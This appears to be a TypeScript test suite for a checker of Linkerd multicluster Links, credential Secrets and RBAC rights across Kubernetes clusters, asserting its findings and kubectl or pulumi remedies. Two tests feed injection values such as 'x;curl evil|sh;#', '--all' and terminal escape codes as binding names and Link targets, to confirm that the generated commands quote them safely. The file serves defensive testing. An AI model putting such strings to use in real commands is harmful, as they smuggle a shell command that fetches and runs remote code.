import { V1ObjectMeta } from "@kubernetes/client-node";
import assert from "node:assert/strict";
import { links } from "../../../../operations/layers/links/links";
import { examined } from "../../support/examined";
import { make } from "../../support/kubernetesObjects";
import { kubeconfigData } from "../../support/links";
import { change, LinkedMesh, named, remove } from "../../support/linkedMesh";

const CHANGED = "PULUMI_K8S_ENABLE_PATCH_FORCE=true pulumi up --refresh";
const DELETED = "pulumi up --refresh";
const LINK = { severity: "error", where: "cluster1-to-cluster2" };
const ACCOUNT = "ServiceAccount linkerd-service-mirror-remote-access-cluster1 of cluster2";
const DISCOVERY =
    "linkerd-destination of the source reads the target with this Secret; Services that are exported for remote discovery do not resolve.";

describe("links", () => {
    let mesh: LinkedMesh;
    const findings = () => examined(links, mesh.view()).findings;
    const first = () => mesh.kubernetes("cluster1");

    beforeEach(() => {
        mesh = new LinkedMesh();
    });

    it("has nothing to say of a healthy mesh of three clusters", () => {
        mesh = new LinkedMesh(3);
        assert.deepEqual(examined(links, mesh.view()), {
            scope: "6 of 6 links",
            findings: [],
            notChecked: [],
        });
    });

    it("names a Link that is missing", () => {
        remove(first().links, "cluster2");
        assert.deepEqual(findings(), [
            {
                ...LINK,
                code: "link-missing",
                what: "Link linkerd-multicluster/cluster2 is missing in cluster1",
                why: "The service mirror follows this Link; without it nothing is mirrored.",
                remedy: DELETED,
            },
        ]);
    });

    it("names every field of a Link that is not the program's", () => {
        change(named(first().links, "cluster2").spec, {
            gatewayAddress: "198.19.0.250",
            probeSpec: { period: "9s", port: "4191", path: "/ready" },
            selector: { matchLabels: { tier: "front", "mirror.linkerd.io/exported": "true" } },
        });
        assert.deepEqual(findings(), [
            {
                ...LINK,
                code: "link-differs",
                what: "Link cluster2 differs from the program's: probeSpec.period is 9s, not 3s; selector.matchLabels.tier is front, not missing; gatewayAddress is 198.19.0.250, not 10.20.0.150",
                why: "Requests to mirrored Services go where the Link says.",
                remedy: DELETED,
            },
        ]);
    });

    it("takes a Link back by force from whoever is neither the program nor kubectl", () => {
        const link = named(first().links, "cluster2");
        change(link.spec, { gatewayPort: "4144" });
        const remedyOf = (...managers: string[]) => {
            change(link.metadata, { managedFields: managers.map((manager) => ({ manager })) });
            return findings().map(({ remedy }) => remedy);
        };
        assert.deepEqual(remedyOf("pulumi-kubernetes-1a2b3c4d", "kubectl-patch"), [DELETED]);
        assert.deepEqual(remedyOf("pulumi-kubernetes-1a2b3c4d", "argocd-controller"), [CHANGED]);
    });

    it("names what a Link lacks, whole or in a part", () => {
        change(named(first().links, "cluster2").spec, {
            probeSpec: undefined,
            selector: { matchLabels: {} },
        });
        assert.deepEqual(
            findings().map(({ what }) => what),
            [
                `Link cluster2 differs from the program's: probeSpec is missing, not {"path":"/ready","port":"4191","period":"3s"}; selector.matchLabels.mirror.linkerd.io/exported is missing, not true`,
            ],
        );
    });

    describe("of Linkerd 2.19", () => {
        beforeEach(() => {
            mesh = new LinkedMesh(2, "edge-25.10.7");
        });
        const link = () => named(first().links, "cluster2");

        it("have nothing wrong without what the CRD fills in, as before an update of it", () => {
            const { probeSpec } = link().spec ?? {};
            const { failureThreshold, timeout, ...written } = probeSpec as Record<string, string>;
            assert.deepEqual([failureThreshold, timeout], ["3", "30s"]);
            change(link().spec, { probeSpec: written });
            assert.deepEqual(findings(), []);
        });

        it("differ where somebody wrote another value than the CRD's", () => {
            change(link().spec?.probeSpec, { failureThreshold: "9" });
            assert.deepEqual(
                findings().map(({ code, what }) => [code, what]),
                [
                    [
                        "link-differs",
                        "Link cluster2 differs from the program's: probeSpec.failureThreshold is 9, not missing",
                    ],
                ],
            );
        });

        for (const [annotations, found] of [
            [{}, "missing"],
            [{ "linkerd.io/created-by": "linkerd/cli edge-25.4.4" }, "linkerd/cli edge-25.4.4"],
        ] as const) {
            it(`are warned of with ${found} as their maker`, () => {
                change(link().metadata, { annotations });
                assert.deepEqual(findings(), [
                    {
                        severity: "warning",
                        where: "cluster1-to-cluster2",
                        code: "link-of-other-version",
                        what: `Link cluster2 is not of Linkerd edge-25.10.7: annotation linkerd.io/created-by is ${found}, not linkerd/cli edge-25.10.7`,
                        why: "The update to edge-25.10.7 has not come to it, and `linkerd multicluster check` warns of it. `pulumi up` writes it anew.",
                        remedy: DELETED,
                    },
                ]);
            });
        }

        it("have the same two Secrets", () => {
            remove(first().secrets, "cluster-credentials-cluster2");
            mesh.setCredentials("cluster1", "cluster2", { failure: "the Secret is missing" });
            assert.deepEqual(
                findings().map(({ what }) => what),
                ["linkerd-multicluster", "linkerd"].map(
                    (namespace) =>
                        `Secret ${namespace}/cluster-credentials-cluster2 is missing in cluster1`,
                ),
            );
        });
    });

    it("expects the floating IP in a Link of routing direct", () => {
        mesh.config = {
            ...mesh.config,
            links: [{ source: "cluster1", target: "cluster2", routing: "direct" }],
        };
        remove(mesh.kubernetes("cluster2").links, "cluster1");
        assert.deepEqual(
            findings().map(({ what }) => what),
            [
                "Link cluster2 differs from the program's: gatewayAddress is 10.20.0.150, not 203.0.113.22",
            ],
        );
    });

    it("names credentials that are missing, in each of the two namespaces", () => {
        const { secrets } = first();
        remove(secrets, "cluster-credentials-cluster2");
        mesh.setCredentials("cluster1", "cluster2", { failure: "the Secret is missing" });
        assert.deepEqual(findings(), [
            {
                ...LINK,
                code: "link-secret-unusable",
                what: "Secret linkerd-multicluster/cluster-credentials-cluster2 is missing in cluster1",
                why: "The service mirror reads the target with this Secret.",
                remedy: DELETED,
            },
            {
                ...LINK,
                code: "link-secret-unusable",
                what: "Secret linkerd/cluster-credentials-cluster2 is missing in cluster1",
                why: DISCOVERY,
                remedy: DELETED,
            },
        ]);
    });

    it("names a Secret that holds no kubeconfig, without quoting it", () => {
        const { data } = named(first().secrets, "cluster-credentials-cluster2");
        change(data, { kubeconfig: Buffer.from("{ secret").toString("base64") });
        assert.deepEqual(
            findings().map(({ code, what, remedy }) => ({ code, what, remedy })),
            [
                {
                    code: "link-secret-unusable",
                    what: "Secret linkerd-multicluster/cluster-credentials-cluster2 holds no kubeconfig in cluster1",
                    remedy: DELETED,
                },
            ],
        );
    });

    it("names how linkerd-destination's Secret differs", () => {
        const inLinkerd = first().secrets.find(({ metadata }) => metadata?.namespace === "linkerd");
        change(inLinkerd?.metadata?.annotations, {
            "multicluster.linkerd.io/trust-domain": "other",
        });
        change(inLinkerd?.metadata, { labels: {} });
        change(inLinkerd?.data, {
            kubeconfig: kubeconfigData("cluster3", "cluster2"),
        });
        assert.deepEqual(findings(), [
            {
                ...LINK,
                code: "link-secret-differs",
                what: "Secret linkerd/cluster-credentials-cluster2 in cluster1 differs from the program's: label multicluster.linkerd.io/cluster-name is missing, not cluster2; annotation multicluster.linkerd.io/trust-domain is other, not cluster.local; its kubeconfig is not that of Secret linkerd-multicluster/cluster-credentials-cluster2",
                why: DISCOVERY,
                remedy: DELETED,
            },
        ]);
    });

    it("names both Secrets, where one is missing and the other differs", () => {
        const inLinkerd = first().secrets.find(({ metadata }) => metadata?.namespace === "linkerd");
        change(inLinkerd?.metadata, { labels: {} });
        first().secrets = first().secrets.filter(
            ({ metadata }) =>
                metadata?.name !== "cluster-credentials-cluster2" ||
                metadata.namespace === "linkerd",
        );
        assert.deepEqual(
            findings().map(({ what }) => what),
            [
                "Secret linkerd-multicluster/cluster-credentials-cluster2 is missing in cluster1",
                "Secret linkerd/cluster-credentials-cluster2 in cluster1 differs from the program's: label multicluster.linkerd.io/cluster-name is missing, not cluster2",
            ],
        );
    });

    describe("credentials", () => {
        const STALE =
            "The service mirror cannot read what the target exports; what it has mirrored grows stale.";
        const refused = "cluster2 does not accept the token in Secret cluster-credentials-cluster2";

        it("whose token was revoked are made anew", () => {
            remove(
                mesh.kubernetes("cluster2").secrets,
                "linkerd-service-mirror-remote-access-cluster1-token",
            );
            mesh.setCredentials("cluster1", "cluster2", { failure: refused });
            assert.deepEqual(findings(), [
                {
                    ...LINK,
                    code: "credentials-refused",
                    what: `${refused}: Secret linkerd-service-mirror-remote-access-cluster1-token of cluster2 is gone`,
                    why: STALE,
                    remedy: DELETED,
                },
            ]);
        });

        it("that somebody changed are taken back", () => {
            mesh.setCredentials("cluster1", "cluster2", { failure: refused });
            assert.deepEqual(findings(), [
                {
                    ...LINK,
                    code: "credentials-refused",
                    what: refused,
                    why: STALE,
                    remedy: DELETED,
                },
            ]);
        });

        it("that another manager changed are taken back by force, unless the token is gone", () => {
            const { metadata } = named(first().secrets, "cluster-credentials-cluster2");
            change(metadata, { managedFields: [{ manager: "argocd-controller" }] });
            mesh.setCredentials("cluster1", "cluster2", { failure: refused });
            const remedies = () => findings().map(({ remedy }) => remedy);
            assert.deepEqual(remedies(), [CHANGED]);
            remove(
                mesh.kubernetes("cluster2").secrets,
                "linkerd-service-mirror-remote-access-cluster1-token",
            );
            assert.deepEqual(remedies(), [DELETED]);
        });

        it("name another API server than the configuration", () => {
            mesh.setCredentials("cluster1", "cluster2", {
                seen: { server: "https://10.20.0.11:6443" },
            });
            assert.deepEqual(findings(), [
                {
                    ...LINK,
                    code: "credentials-of-other-server",
                    what: "Secret cluster-credentials-cluster2 names the API server https://10.20.0.11:6443, and the configuration https://203.0.113.21:6443",
                    why: "The service mirror asks the one that the Secret names.",
                    remedy: CHANGED,
                },
            ]);
        });

        it("are somebody else's", () => {
            mesh.setCredentials("cluster1", "cluster2", { seen: { user: "kubernetes-admin" } });
            assert.deepEqual(findings(), [
                {
                    ...LINK,
                    code: "credentials-of-other-account",
                    what: "the credentials belong to kubernetes-admin, not to system:serviceaccount:linkerd-multicluster:linkerd-service-mirror-remote-access-cluster1",
                    why: "Revoking the link does not revoke them, and what they may do in cluster2 is not what the program granted.",
                    remedy: CHANGED,
                },
            ]);
        });

        it("lack rights", () => {
            mesh.setCredentials("cluster1", "cluster2", {
                seen: { missing: ["list services", "watch services"] },
            });
            assert.deepEqual(findings(), [
                {
                    ...LINK,
                    code: "credentials-lack-rights",
                    what: `${ACCOUNT} may not list services, watch services`,
                    why: "The service mirror watches these; without them it mirrors nothing or not all.",
                    remedy: CHANGED,
                },
            ]);
        });

        it("lack as many rights as one finding names in full", () => {
            const missing = ["a", "b", "c", "d", "e", "f"].map((what) => `get ${what}`);
            mesh.setCredentials("cluster1", "cluster2", { seen: { missing } });
            assert.deepEqual(
                findings().map(({ what }) => what),
                [`${ACCOUNT} may not get a, get b, get c, get d, get e, get f`],
            );
        });

        it("have rights that bindings of others gave: of the account they are deleted, of a group shown", () => {
            mesh.setCredentials("cluster1", "cluster2", {
                seen: {
                    excess: ["a", "b", "c", "d", "e", "f", "g"].map((what) => `get ${what}`),
                    grants: [
                        { kind: "clusterrolebinding", name: "all" },
                        { kind: "rolebinding", name: "one", namespace: "shop" },
                        { kind: "clusterrolebinding", name: "sa", group: "system:serviceaccounts" },
                    ],
                },
            });
            assert.deepEqual(findings(), [
                {
                    ...LINK,
                    code: "credentials-exceed-rights",
                    what: `${ACCOUNT} may also get a, get b, get c, get d, get e, get f and 1 more, through clusterrolebinding all, rolebinding one, clusterrolebinding sa (system:serviceaccounts)`,
                    why: "Whoever reads Secrets in cluster1 may do the same in cluster2.",
                    remedy: [
                        "kubectl --context cluster2 delete clusterrolebinding all",
                        "kubectl --context cluster2 --namespace shop delete rolebinding one",
                        "kubectl --context cluster2 describe clusterrolebinding sa",
                    ].join("\n"),
                },
            ]);
        });

        it("have rights by bindings whose names kubectl or a shell would obey", () => {
            const names = ["--all", "x;curl evil|sh;#", "\u202Ead\u001B[2Kmin"];
            mesh.setCredentials("cluster1", "cluster2", {
                seen: {
                    excess: ["get secrets"],
                    grants: names.map((name) => ({ kind: "rolebinding", name, namespace: "shop" })),
                },
            });
            const here = "kubectl --context cluster2 --namespace shop delete";
            assert.deepEqual(
                findings().map(({ remedy }) => remedy.split("\n")),
                [
                    [
                        `${here} rolebinding/--all`,
                        `${here} rolebinding 'x;curl evil|sh;#'`,
                        String.raw`${here} rolebinding $'\342\200\256ad\033[2Kmin'`,
                    ],
                ],
            );
        });

        it("have rights that no binding of others explains: the program's own role was changed", () => {
            mesh.setCredentials("cluster1", "cluster2", { seen: { excess: ["get secrets"] } });
            assert.deepEqual(
                findings().map(({ what, remedy }) => ({ what, remedy })),
                [{ what: `${ACCOUNT} may also get secrets`, remedy: CHANGED }],
            );
        });

        it("cannot be asked about in a cluster that does not answer, which is no finding here", () => {
            mesh.kill("cluster2");
            mesh.setCredentials("cluster1", "cluster2", { failure: "it does not answer" });
            assert.deepEqual(examined(links, mesh.view()), {
                scope: "1 of 2 links",
                findings: [],
                notChecked: [
                    "cluster2: its API server does not answer",
                    "cluster1-to-cluster2: cluster2 cannot be asked about its credentials",
                ],
            });
        });
    });

    describe("Links that the configuration does not have", () => {
        const foreign = (
            manager: string,
            { name = "old", namespace = "linkerd-multicluster", target = "old" } = {},
        ) => {
            first().links.push({
                metadata: make(V1ObjectMeta, { name, namespace, managedFields: [{ manager }] }),
                spec: { targetClusterName: target },
            });
        };

        it("are removed as the CLI's unlink does, with kubectl alone", () => {
            foreign("kubectl-client-side-apply");
            const kubectl = "kubectl --context cluster1";
            const here = `${kubectl} --namespace linkerd-multicluster delete`;
            assert.deepEqual(findings(), [
                {
                    severity: "warning",
                    where: "cluster1",
                    code: "link-not-configured",
                    what: "Link linkerd-multicluster/old to old is none of the configuration's",
                    why: "Services are still mirrored from old, and pulumi destroy will not end that.",
                    remedy: [
                        `${here} links.multicluster.linkerd.io old`,
                        `${here} deployments,services,serviceaccounts,roles,rolebindings --selector=mirror.linkerd.io/cluster-name=old`,
                        `${kubectl} delete clusterroles,clusterrolebindings --selector=mirror.linkerd.io/cluster-name=old`,
                        `${here} secrets cluster-credentials-old --ignore-not-found`,
                        `${kubectl} --namespace linkerd delete secrets cluster-credentials-old --ignore-not-found`,
                        `${kubectl} delete services --all-namespaces --selector=mirror.linkerd.io/cluster-name=old,mirror.linkerd.io/mirrored-service=true`,
                    ].join("\n"),
                },
            ]);
        });

        for (const target of ["x;curl evil|sh;#", "=cluster2", "a,b!=c", "-l"]) {
            it(`go alone where nothing can have their target as its label: ${target}`, () => {
                foreign("linkerd", { target });
                assert.deepEqual(
                    findings().map(({ remedy }) => remedy),
                    [
                        "kubectl --context cluster1 --namespace linkerd-multicluster delete links.multicluster.linkerd.io old",
                    ],
                );
            });
        }

        it("go alone where their target is the configuration's too, whose Secrets and mirrors stay", () => {
            foreign("linkerd", { target: "cluster2" });
            foreign("linkerd", { name: "cluster2", namespace: "shop", target: "cluster2" });
            assert.deepEqual(
                findings().map(({ what, remedy }) => [what, remedy]),
                [
                    [
                        "Link linkerd-multicluster/old to cluster2 is none of the configuration's",
                        "kubectl --context cluster1 --namespace linkerd-multicluster delete links.multicluster.linkerd.io old",
                    ],
                    [
                        "Link shop/cluster2 to cluster2 is none of the configuration's",
                        "kubectl --context cluster1 --namespace shop delete links.multicluster.linkerd.io cluster2",
                    ],
                ],
            );
        });

        it("are those to clusters that other clusters alone are linked to, and one of several targets", () => {
            mesh = new LinkedMesh(3);
            mesh.config = {
                ...mesh.config,
                links: mesh.config.links.filter(
                    ({ source, target }) => source !== "cluster1" || target !== "cluster3",
                ),
            };
            assert.deepEqual(
                findings().map(({ what }) => what),
                ["Link linkerd-multicluster/cluster3 to cluster3 is none of the configuration's"],
            );
            mesh = new LinkedMesh(3);
            foreign("linkerd", { target: "cluster2" });
            assert.deepEqual(
                findings().map(({ remedy }) => remedy),
                [
                    "kubectl --context cluster1 --namespace linkerd-multicluster delete links.multicluster.linkerd.io old",
                ],
            );
        });

        it("are removed by the program, where it made them", () => {
            foreign("pulumi-kubernetes-1a2b3c4d");
            assert.deepEqual(findings(), [
                {
                    severity: "warning",
                    where: "cluster1",
                    code: "link-not-configured",
                    what: "Link linkerd-multicluster/old to old is none of the configuration's",
                    why: "Services are still mirrored from old.",
                    remedy: "pulumi up",
                },
            ]);
        });
    });
});
